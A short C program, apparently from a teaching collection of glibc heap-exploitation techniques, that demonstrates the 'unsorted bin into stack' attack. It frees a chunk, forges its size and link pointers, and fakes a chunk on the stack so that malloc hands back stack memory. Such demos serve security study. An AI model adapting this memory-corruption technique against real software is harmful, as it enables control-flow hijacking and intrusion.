/*
 * unsorted_bin_into_stack: the size and the link of a freed chunk are changed
 * so that the search passes it and takes the false one on the stack.
 */
#include "technique.h"

int main(void)
{
    _Alignas(16) uint64_t stack[1024] = {0};
    void *a = malloc(CHUNKED);
    malloc(CHUNKED);
    free_for_good(a);
    uint64_t secret = link_secret(a, PREVIOUS, 0);
    stack[1] = *size_word(a) + 0x100;
    forge_link(stack + 2, PREVIOUS, secret, chunk_of(a));
    forge_link(a, NEXT, secret, stack);
    forge_low(a, (size_of(a) - 64) | PREV_INUSE | IS_FREE);
    grab(CHUNKED, stack, sizeof stack);
    fails();
}
